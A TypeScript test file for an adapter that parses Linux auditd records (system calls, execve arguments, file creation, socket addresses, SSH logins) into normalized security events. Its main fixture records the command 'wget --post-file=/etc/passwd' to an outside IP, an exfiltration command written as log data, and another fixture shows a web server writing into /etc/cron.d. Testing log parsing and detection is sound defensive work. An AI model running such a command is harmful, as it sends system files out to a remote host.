import { describe, expect, test } from "vitest";

import { adaptOne, meta } from "./adapting.testing.ts";
import { decodeSocketAddress, parseAuditRecord } from "./audit-record.ts";
import { auditd } from "./auditd.ts";
import { recogniseSource } from "./registry.ts";

const stamp = "msg=audit(1795260603.120:4711)";
const time = Date.parse("2026-11-21T11:30:03.120Z");
const hex = (text: string) => Buffer.from(text).toString("hex").toUpperCase();

const syscall = `type=SYSCALL ${stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=55d0c1f0 a1=55d0c200 a2=55d0c210 a3=8 items=2 ppid=811 pid=812 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 comm="wget" exe="/usr/bin/wget" subj=unconfined key="network"`;
const execve = `type=EXECVE ${stamp}: argc=3 a0="wget" a1="--post-file=/etc/passwd" a2=${hex("http://198.51.100.9/a b")}`;
const cwd = `type=CWD ${stamp}: cwd="/root"`;
const path = `type=PATH ${stamp}: item=0 name="/usr/bin/wget" inode=1 dev=08:01 mode=0100755 ouid=0 ogid=0 nametype=NORMAL`;
const proctitle = `type=PROCTITLE ${stamp}: proctitle=${hex("wget\0--post-file=/etc/passwd")}`;
const event = [syscall, execve, cwd, path, proctitle, `type=EOE ${stamp}:`].join("\n");

const details = (text: string) => adaptOne(auditd, text).data.details ?? {};

describe("an event of the Linux audit log", () => {
  test("is all of its records together, verbatim and taken apart", () => {
    const { id, ...adapted } = adaptOne(auditd, event);
    expect(adapted).toMatchObject({
      source: "/auditflow/source/auditd",
      time,
      data: {
        source_service: "auditd",
        event_type: "auditd.execve",
        user_id: "1000",
        action_result: "SUCCESS",
        resource: "/usr/bin/wget",
        details: {
          type: ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"],
          SYSCALL: "execve",
          a0: "wget",
          a1: "--post-file=/etc/passwd",
          a2: "http://198.51.100.9/a b",
          exe: "/usr/bin/wget",
          cwd: "/root",
          key: "network",
          name: "/usr/bin/wget",
          proctitle: "wget --post-file=/etc/passwd",
          command: "wget --post-file=/etc/passwd http://198.51.100.9/a b",
        },
        logsource: { product: "linux", service: "auditd", category: ["process_creation"] },
        original: event,
      },
    });
    expect(id).toBe(adaptOne(auditd, event).id);
    expect(details(event)).not.toHaveProperty("a3");
  });

  test("that is no execve keeps the arguments of its system call", () => {
    const line = `type=SYSCALL ${stamp}: arch=c000003e syscall=103 success=yes a0=5 a1=0 exe="/usr/bin/dmesg"`;
    expect(details(line)).toMatchObject({ SYSCALL: "syslog", a0: "5" });
    expect(adaptOne(auditd, line).data.logsource).toEqual({ product: "linux", service: "auditd" });
  });

  test("that failed started no process", () => {
    const failed = event.replace("success=yes", "success=no");
    expect(adaptOne(auditd, failed).data).toMatchObject({ action_result: "FAILURE" });
    expect(adaptOne(auditd, failed).data.logsource).not.toHaveProperty("category");
  });

  test("that created a file says which", () => {
    const lines = [
      `type=SYSCALL ${stamp}: arch=c00000b7 syscall=56 success=yes auid=4294967295 uid=33 exe="/usr/sbin/nginx"`,
      cwd,
      `type=PATH ${stamp}: item=0 name="/etc/cron.d/" nametype=PARENT`,
      `type=PATH ${stamp}: item=1 name=${hex("cron d/x")} nametype=CREATE`,
    ];
    expect(adaptOne(auditd, lines.join("\n")).data).toMatchObject({
      event_type: "auditd.openat",
      user_id: "33",
      resource: "/root/cron d/x",
      details: {
        name: ["/etc/cron.d/", "cron d/x"],
        nametype: ["PARENT", "CREATE"],
        created: ["/root/cron d/x"],
      },
      logsource: { category: ["file_event"] },
    });
  });

  test("that opened a connection says where to", () => {
    const saddr = `type=SOCKADDR ${stamp}: saddr=020001BBC63364090000000000000000`;
    const call = `type=SYSCALL ${stamp}: arch=c000003e syscall=42 success=no exit=-115 exe="/usr/bin/bash"`;
    expect(adaptOne(auditd, `${call}\n${saddr}`).data).toMatchObject({
      details: { saddr_ip: "198.51.100.9", saddr_port: "443", initiated: true },
      logsource: { category: ["network_connection"] },
    });
  });

  test("with the names auditd adds is told by them", () => {
    const line = `${syscall.replace("syscall=59", "syscall=999")}\u001dARCH=x86_64 SYSCALL=mknod AUID="deploy" UID="root"`;
    expect(adaptOne(auditd, line).data).toMatchObject({ event_type: "auditd.mknod", user_id: "deploy" });
  });

  test("with several keys has all of them", () => {
    expect(details(syscall.replace('key="network"', `key=${hex("exec\u0001root")}`))["key"]).toEqual([
      "exec",
      "root",
    ]);
  });

  test("with an argument in parts has it whole, also where a character is cut in two", () => {
    const [first, second] = [hex("é").slice(0, 2), hex("é").slice(2)];
    const parts = [
      `type=EXECVE ${stamp}: argc=2 a0="sh" a1_len=4 a1[0]=${hex("x")}${first}`,
      `type=EXECVE ${stamp}: a1[1]=${second}`,
    ];
    expect(details(parts.join("\n"))).toMatchObject({ a0: "sh", a1: "xé", command: "sh xé" });
  });

  test("with a great many arguments has the first as fields, and all in the command", () => {
    const args = Array.from({ length: 100 }, (_, index) => `a${index}="v${index}"`).join(" ");
    const read = details(`type=EXECVE ${stamp}: argc=100 ${args}`);
    expect(read).toHaveProperty("a63", "v63");
    expect(read).not.toHaveProperty("a64");
    expect(String(read["command"])).toMatch(/ v99$/);
  });
});

describe("a message of a program", () => {
  const login = `node=edge-1 type=USER_LOGIN ${stamp}: pid=9 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct="dora" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.9 terminal=ssh res=failed'`;

  test("is read inside its record", () => {
    expect(adaptOne(auditd, login).data).toMatchObject({
      server_hostname: "edge-1",
      event_type: "auditd.user_login",
      user_id: "dora",
      action_result: "FAILURE",
      client_ip: "203.0.113.9",
      details: { op: "login", terminal: "ssh", exe: "/usr/sbin/sshd" },
    });
    expect(details(login)).not.toHaveProperty("hostname");
  });

  test("about a service names its unit", () => {
    const line = `type=SERVICE_STOP ${stamp}: pid=1 uid=0 auid=4294967295 msg='unit=firewalld comm="systemd" res=success'`;
    expect(adaptOne(auditd, line).data).toMatchObject({
      resource: "firewalld",
      details: { unit: "firewalld" },
    });
  });
});

test.for([
  ["of a system log", `Nov 21 12:30:03 edge-2 audisp-syslog: ${syscall}`, "edge-2"],
  [
    "of the kernel",
    `2026-11-21T12:30:03+00:00 edge-3 kernel: audit: type=1300 audit(1795260603.120:4711): arch=c000003e syscall=59`,
    "edge-3",
  ],
] as const)("a record in a line %s is read", ([, line, host]) => {
  expect(adaptOne(auditd, line)).toMatchObject({
    time,
    data: { server_hostname: host, event_type: "auditd.execve" },
  });
  expect(recogniseSource(line)).toBe(auditd);
});

describe("lines", () => {
  test("of one event have one key, those of others another", () => {
    expect(auditd.keyOfLine?.(syscall)).toBe(auditd.keyOfLine?.(execve));
    expect(auditd.keyOfLine?.(syscall)).not.toBe(auditd.keyOfLine?.(syscall.replace("4711", "4712")));
    expect(auditd.keyOfLine?.(syscall)).not.toBe(auditd.keyOfLine?.(`node=a ${syscall}`));
    expect(auditd.keyOfLine?.("type=SYSCALL of nobody")).toBeUndefined();
  });

  test.for([
    ["that are no records", "cron: nothing"],
    ["of two events", `${syscall}\n${execve.replace("4711", "4712")}`],
    ["of which one is no record", `${syscall}\nand more`],
    ["that are too long", `${syscall} ${"x".repeat(32_768)}`],
    ["with their header too far in", `${"x".repeat(600)} ${syscall}`],
    ["that are empty", "\n"],
    ["that are JSON", { type: "SYSCALL" }],
  ] as const)("%s are refused", ([, record]) => {
    expect(() => auditd.adapt(record, meta())).toThrow(/expected records of one audit event/);
  });

  test("full of what almost is a value take no longer than their length", () => {
    for (const part of ['a="', "a='", "a={", "=", "a=msg='"]) {
      const record = parseAuditRecord(`type=SYSCALL ${stamp}: ${part.repeat(8000)}`);
      expect(record?.fields.length).toBeLessThan(8001);
    }
  });
});

test.for([
  ["020000161F00000100000000", { ip: "31.0.0.1", port: 22 }],
  ["0A0001BB0000000020010DB8000000000000000000000007", { ip: "2001:db8::7", port: 443 }],
  ["01002F72756E2F782E736F636B00", undefined],
  ["02", undefined],
  ["no hex", undefined],
] as const)("the socket address %s is %o", ([saddr, expected]) => {
  expect(decodeSocketAddress(saddr)).toEqual(expected);
});
